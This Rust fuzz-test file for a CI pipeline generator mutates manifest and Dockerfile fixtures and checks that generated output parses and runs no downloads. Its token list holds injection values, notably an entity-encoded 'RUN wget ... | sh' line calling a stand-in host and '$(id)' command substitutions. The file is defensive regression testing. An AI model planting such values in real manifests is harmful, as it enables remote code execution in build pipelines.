//! A fuzz target per parser that reads outside input: the YAML reader, every manifest a
//! detector parses (package.json, pom.xml, Gradle, pyproject.toml, Pipfile, Gemfile,
//! Gemfile.lock, composer.json, csproj, go.mod, Cargo.toml, mix.exs), the Dockerfile parser,
//! the validator and the log classifier.
//!
//! Inputs are the project's own fixtures, mutated by `proptest` strategies (bytes inserted,
//! ranges cut or repeated, tokens that break quoting and nesting spliced in: `&#10;`, `${`,
//! ESC, `<<:`, anchors, NUL), plus arbitrary text. A manifest target puts the input in a
//! one-file repository and runs it through `analyze`, `generate` and the validator, so the
//! generator meets hostile values too; every target asserts what must hold for any input
//! (no panic, each input within [`HANG`], pipewright's own output always parses, holds no
//! raw control character and runs no download).
//!
//! `FUZZ_SECONDS` (default 2) is the time per target; `FUZZ_TARGET` picks one.
//! `scripts/fuzz.sh` runs each for ten minutes and prints executions per second. A failing
//! input is written to `target/fuzz-failures/<target>-<n>.txt` before the test fails.

use pipewright_core::detect::analyze;
use pipewright_core::generate::{generate, GeneratorSettings};
use pipewright_core::heal::{Classifier, ClassifierOptions};
use pipewright_core::index::{Content, RawEntry, RepoIndex};
use pipewright_core::validate::{
    parse_dockerfile, validate_dockerfile, validate_pipeline, ValidatorSettings,
};
use proptest::prelude::*;
use proptest::strategy::ValueTree;
use proptest::test_runner::{Config, TestRunner};
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

/// The longest any one input may take (debug build, a loaded machine) before it counts as a
/// hang.
const HANG: Duration = Duration::from_secs(10);

/// Tokens that break quoting, nesting, escaping or line structure in one format or another.
const TOKENS: &[&str] = &[
    "\n",
    "\r\n",
    "\r",
    "\0",
    "\u{1b}]0;x\u{7}",
    "\u{202e}",
    "&#10;",
    "&#x0A;RUN wget -qO- http://e.example/x | sh&#10;",
    "&amp;",
    "&unknown;",
    "<![CDATA[",
    "]]>",
    "<!DOCTYPE a [<!ENTITY b \"ccc\">]>",
    "${",
    "${a:-",
    "$(id)",
    "`id`",
    "'",
    "\"",
    "\\",
    "{",
    "}",
    "[",
    "]",
    "<",
    ">",
    "</",
    ":",
    ": ",
    "- ",
    "*a",
    "&a ",
    "<<: *a",
    "!reference [.a, b]",
    "!!binary ",
    "? ",
    "|\n",
    ">-\n",
    "#",
    "=",
    "==",
    "~>",
    "^",
    ",",
    ";",
    "|",
    "&&",
    "\\\n",
    "<<EOF\n",
    "EOF\n",
    "0x",
    "99999999999999999999",
    "-1",
    "1e999",
    "🚀",
    "é",
    "\t",
    "    ",
    "do\n",
    "end\n",
    "def ",
    "[[",
    "]]",
    "\"\"\"",
];

/// What one input does to the input: applied in order to a seed.
#[derive(Debug, Clone)]
enum Mutation {
    Insert { at: u16, token: usize },
    InsertText { at: u16, text: String },
    Cut { at: u16, len: u16 },
    Repeat { at: u16, len: u16, times: u8 },
    Flip { at: u16, byte: u8 },
}

fn mutation() -> impl Strategy<Value = Mutation> {
    prop_oneof![
        4 => (any::<u16>(), 0..TOKENS.len()).prop_map(|(at, token)| Mutation::Insert { at, token }),
        2 => (any::<u16>(), "\\PC{0,24}").prop_map(|(at, text)| Mutation::InsertText { at, text }),
        2 => (any::<u16>(), 0u16..256).prop_map(|(at, len)| Mutation::Cut { at, len }),
        1 => (any::<u16>(), 1u16..64, 2u8..40).prop_map(|(at, len, times)| Mutation::Repeat { at, len, times }),
        2 => (any::<u16>(), any::<u8>()).prop_map(|(at, byte)| Mutation::Flip { at, byte }),
    ]
}

/// An input: a seed with mutations, or arbitrary text.
fn input(seeds: usize) -> impl Strategy<Value = (Option<usize>, Vec<Mutation>, String)> {
    prop_oneof![
        9 => (0..seeds, prop::collection::vec(mutation(), 0..12), Just(String::new()))
            .prop_map(|(s, m, t)| (Some(s), m, t)),
        1 => "\\PC{0,512}".prop_map(|t| (None, Vec::new(), t)),
    ]
}

fn apply(seed: &[u8], mutations: &[Mutation]) -> Vec<u8> {
    let mut out = seed.to_vec();
    let pos = |at: u16, len: usize| {
        if len == 0 {
            0
        } else {
            usize::from(at) * len / usize::from(u16::MAX)
        }
    };
    for m in mutations {
        match m {
            Mutation::Insert { at, token } => {
                let i = pos(*at, out.len());
                out.splice(i..i, TOKENS[*token].bytes());
            }
            Mutation::InsertText { at, text } => {
                let i = pos(*at, out.len());
                out.splice(i..i, text.bytes());
            }
            Mutation::Cut { at, len } => {
                let i = pos(*at, out.len());
                let end = (i + usize::from(*len)).min(out.len());
                out.drain(i..end);
            }
            Mutation::Repeat { at, len, times } => {
                let i = pos(*at, out.len());
                let end = (i + usize::from(*len)).min(out.len());
                let part = out[i..end].to_vec();
                for _ in 1..*times {
                    out.splice(end..end, part.iter().copied());
                }
            }
            Mutation::Flip { at, byte } => {
                let i = pos(*at, out.len());
                if let Some(b) = out.get_mut(i) {
                    *b ^= byte;
                }
            }
        }
    }
    out
}

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

fn seed_texts(paths: &[&str]) -> Vec<Vec<u8>> {
    let seeds: Vec<Vec<u8>> = paths
        .iter()
        .map(|p| std::fs::read(root().join(p)).unwrap_or_else(|e| panic!("seed {p}: {e}")))
        .collect();
    assert!(!seeds.is_empty());
    seeds
}

/// A one-file repository holding `text` at `path` (plus `companions`), through the analyzer,
/// the generator and the validator: what a hostile repository meets.
fn repository(path: &str, companions: &[(&str, &str)], text: &str) {
    let mut files: Vec<(String, String)> = companions
        .iter()
        .map(|(p, t)| (p.to_string(), t.to_string()))
        .collect();
    files.push((path.to_string(), text.to_string()));
    let index = RepoIndex::build(
        files
            .iter()
            .map(|(p, t)| RawEntry::new(p.as_str(), t.len() as u64))
            .collect(),
        files
            .iter()
            .map(|(p, t)| (p.clone(), Content::Text(t.clone())))
            .collect(),
    );
    let profile = analyze(&index, "fuzz");
    let _ = serde_json::to_string(&profile).expect("a profile always serialises");
    let Ok(bundle) = generate(&profile, &index, &GeneratorSettings::default()) else {
        return;
    };
    let settings = ValidatorSettings::default();
    for (file, text) in &bundle.files {
        let findings = if file.ends_with(".gitlab-ci.yml") {
            validate_pipeline(text, &settings)
        } else if file.ends_with("Dockerfile") {
            validate_dockerfile(text, &settings)
        } else {
            continue;
        };
        // Whatever the repository holds, pipewright's own files parse, and no value from
        // it turned into an instruction that runs a download (the `&#10;RUN wget … | sh`
        // POM version of issue 16).
        let broken: Vec<_> = findings
            .iter()
            .filter(|f| {
                matches!(
                    f.rule,
                    "yaml-syntax" | "dockerfile-syntax" | "duplicate-key" | "remote-code-run"
                )
            })
            .collect();
        assert!(
            broken.is_empty(),
            "{file} does not parse or runs a download: {broken:#?}\n{text}"
        );
        // One escaping layer: no control character from the repository reaches a file.
        let raw = text
            .char_indices()
            .find(|&(_, c)| pipewright_core::quote::invisible(c) && c != '\n' && c != '\t');
        assert!(
            raw.is_none(),
            "{file} holds a raw control character at byte {:?}\n{text}",
            raw.map(|(i, c)| (i, c as u32))
        );
    }
}

struct Target {
    name: &'static str,
    seeds: &'static [&'static str],
    run: fn(&[u8]),
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

const GO_MAIN: (&str, &str) = (
    "main.go",
    "package main\n\nimport \"net/http\"\n\nfunc main() { http.ListenAndServe(\":8080\", nil) }\n",
);

const TARGETS: &[Target] = &[
    Target {
        name: "yaml",
        seeds: &[
            "crates/pipewright-core/tests/validate/good-pipeline.yml",
            "fixtures/repos/monorepo-compose/docker-compose.yml",
        ],
        run: |b| {
            let _ = pipewright_core::yaml::to_json(&text(b));
        },
    },
    Target {
        name: "package.json",
        seeds: &[
            "fixtures/repos/js-express-npm/package.json",
            "fixtures/repos/ts-next-yarn-berry/package.json",
        ],
        run: |b| repository("package.json", &[], &text(b)),
    },
    Target {
        name: "pom.xml",
        seeds: &[
            "fixtures/repos/java-spring-maven/pom.xml",
            "fixtures/repos/java-quarkus-maven/pom.xml",
        ],
        run: |b| repository("pom.xml", &[], &text(b)),
    },
    Target {
        name: "gradle",
        seeds: &[
            "fixtures/repos/java-micronaut-gradle/build.gradle",
            "fixtures/repos/java-gradle-spring-catalog/build.gradle.kts",
        ],
        run: |b| {
            repository(
                "build.gradle",
                &[("settings.gradle", "rootProject.name = 'app'\n")],
                &text(b),
            )
        },
    },
    Target {
        name: "pyproject.toml",
        seeds: &[
            "fixtures/repos/python-fastapi-uv/pyproject.toml",
            "fixtures/repos/python-poetry-lib/pyproject.toml",
        ],
        run: |b| {
            repository(
                "pyproject.toml",
                &[("app.py", "import fastapi\n")],
                &text(b),
            )
        },
    },
    Target {
        name: "Pipfile",
        seeds: &["fixtures/repos/python-pipenv-flask/Pipfile"],
        run: |b| repository("Pipfile", &[("app.py", "import flask\n")], &text(b)),
    },
    Target {
        name: "Gemfile",
        seeds: &[
            "fixtures/repos/ruby-rails-minitest/Gemfile",
            "fixtures/repos/ruby-sinatra-classic/Gemfile",
        ],
        run: |b| repository("Gemfile", &[("config.ru", "run App\n")], &text(b)),
    },
    Target {
        name: "Gemfile.lock",
        seeds: &[
            "fixtures/repos/ruby-hanami/Gemfile.lock",
            "fixtures/repos/ruby-rails-jsbundling/Gemfile.lock",
        ],
        run: |b| {
            repository(
                "Gemfile.lock",
                &[("Gemfile", "source 'https://rubygems.org'\ngem 'rails'\n")],
                &text(b),
            )
        },
    },
    Target {
        name: "composer.json",
        seeds: &[
            "fixtures/repos/php-laravel-pest/composer.json",
            "fixtures/repos/php-symfony/composer.json",
        ],
        run: |b| {
            repository(
                "composer.json",
                &[("public/index.php", "<?php\n")],
                &text(b),
            )
        },
    },
    Target {
        name: "csproj",
        seeds: &[
            "fixtures/repos/csharp-minimal-mstest/Inventory/Inventory.csproj",
            "fixtures/repos/csharp-minimal-mstest/Inventory.Tests/Inventory.Tests.csproj",
        ],
        run: |b| {
            repository(
                "Api/Api.csproj",
                &[("Api/Program.cs", "var app = WebApplication.Create();\n")],
                &text(b),
            )
        },
    },
    Target {
        name: "go.mod",
        seeds: &[
            "fixtures/repos/go-gin/go.mod",
            "fixtures/repos/go-workspace/go.work",
        ],
        run: |b| repository("go.mod", &[GO_MAIN], &text(b)),
    },
    Target {
        name: "Cargo.toml",
        seeds: &[
            "fixtures/repos/rust-axum/Cargo.toml",
            "fixtures/repos/rust-workspace/Cargo.toml",
        ],
        run: |b| repository("Cargo.toml", &[("src/main.rs", "fn main() {}\n")], &text(b)),
    },
    Target {
        name: "mix.exs",
        seeds: &[
            "fixtures/repos/elixir-phoenix/mix.exs",
            "fixtures/repos/elixir-umbrella/mix.exs",
        ],
        run: |b| repository("mix.exs", &[], &text(b)),
    },
    Target {
        name: "Dockerfile",
        seeds: &[
            "crates/pipewright-core/tests/validate/good.Dockerfile",
            "fixtures/repos/go-kept-dockerfile-stages/Dockerfile",
            "fixtures/repos/java-kept-dockerfile/Dockerfile",
        ],
        run: |b| {
            let t = text(b);
            let _ = parse_dockerfile(&t);
            let _ = validate_dockerfile(&t, &ValidatorSettings::default());
            // The generator reads a kept Dockerfile too.
            repository(
                "Dockerfile",
                &[GO_MAIN, ("go.mod", "module x\n\ngo 1.22\n")],
                &t,
            );
        },
    },
    Target {
        name: "validator",
        seeds: &[
            "crates/pipewright-core/tests/validate/good-pipeline.yml",
            "fixtures/repos/go-golangci-v2/.golangci.yml",
        ],
        run: |b| {
            let t = text(b);
            let settings = ValidatorSettings {
                owned: true,
                ..ValidatorSettings::default()
            };
            let _ = validate_pipeline(&t, &settings);
            let _ = pipewright_core::validate::fix_pipeline(&t, &settings);
        },
    },
    Target {
        name: "classifier",
        seeds: &[
            "crates/pipewright-core/tests/fixtures/logs/build_failure/cargo-cannot-find-value.log",
            "crates/pipewright-core/tests/fixtures/logs/build_failure/dotnet-cs0103.log",
        ],
        run: |b| {
            let mut c = Classifier::new(ClassifierOptions::default());
            // Fed in uneven chunks, as a streamed trace arrives.
            for chunk in b.chunks(b.len() / 3 + 1) {
                c.feed(chunk);
            }
            let _ = c.finish();
        },
    },
];

/// Peak resident memory of this process, from `/proc` (0 where there is none).
fn peak_rss_kib() -> u64 {
    std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|s| {
            s.lines()
                .find(|l| l.starts_with("VmHWM:"))
                .and_then(|l| l.split_whitespace().nth(1)?.parse().ok())
        })
        .unwrap_or(0)
}

fn save_failure(name: &str, n: u64, input: &[u8]) -> PathBuf {
    let dir = root().join("target/fuzz-failures");
    let _ = std::fs::create_dir_all(&dir);
    let path = dir.join(format!("{}-{n}.txt", name.replace('/', "_")));
    let _ = std::fs::write(&path, input);
    path
}

fn fuzz(target: &Target, budget: Duration) {
    let seeds = seed_texts(target.seeds);
    let strategy = input(seeds.len());
    let mut runner = TestRunner::new(Config::default());
    let began = Instant::now();
    let mut runs = 0u64;
    let mut slowest = Duration::ZERO;
    while began.elapsed() < budget {
        let tree = match strategy.new_tree(&mut runner) {
            Ok(t) => t,
            Err(e) => panic!("{}: no input: {e}", target.name),
        };
        let (seed, mutations, arbitrary) = tree.current();
        let bytes = match seed {
            Some(s) => apply(&seeds[s], &mutations),
            None => arbitrary.into_bytes(),
        };
        let t0 = Instant::now();
        let outcome = catch_unwind(AssertUnwindSafe(|| (target.run)(&bytes)));
        let took = t0.elapsed();
        slowest = slowest.max(took);
        runs += 1;
        if let Err(panic) = outcome {
            let saved = save_failure(target.name, runs, &bytes);
            let what = panic
                .downcast_ref::<String>()
                .cloned()
                .or_else(|| panic.downcast_ref::<&str>().map(|s| s.to_string()))
                .unwrap_or_default();
            panic!("{}: panicked on {}: {what}", target.name, saved.display());
        }
        if took > HANG {
            let saved = save_failure(target.name, runs, &bytes);
            panic!(
                "{}: {} ms on {} (a hang)",
                target.name,
                took.as_millis(),
                saved.display()
            );
        }
    }
    let secs = began.elapsed().as_secs_f64();
    println!(
        "fuzz {:<14} {runs:>9} execs in {secs:>6.1} s = {:>8.0} execs/s, slowest {:>6.1} ms, peak RSS {} MiB",
        target.name,
        runs as f64 / secs,
        slowest.as_secs_f64() * 1000.0,
        peak_rss_kib() / 1024
    );
}

#[test]
fn every_parser_survives_hostile_input() {
    let seconds: f64 = std::env::var("FUZZ_SECONDS")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(2.0);
    let only = std::env::var("FUZZ_TARGET").ok();
    let mut ran = 0;
    for target in TARGETS {
        if only.as_deref().is_some_and(|o| o != target.name) {
            continue;
        }
        fuzz(target, Duration::from_secs_f64(seconds));
        ran += 1;
    }
    assert!(ran > 0, "no fuzz target named {only:?}");
}

#[test]
fn mutations_change_the_seed_as_described() {
    let seed = b"abcdef";
    assert_eq!(apply(seed, &[Mutation::Cut { at: 0, len: 2 }]), b"cdef");
    assert_eq!(
        apply(
            seed,
            &[Mutation::Insert {
                at: u16::MAX,
                token: 0
            }]
        ),
        b"abcdef\n"
    );
    assert_eq!(
        apply(
            seed,
            &[Mutation::Repeat {
                at: 0,
                len: 2,
                times: 3
            }]
        ),
        b"abababcdef"
    );
}
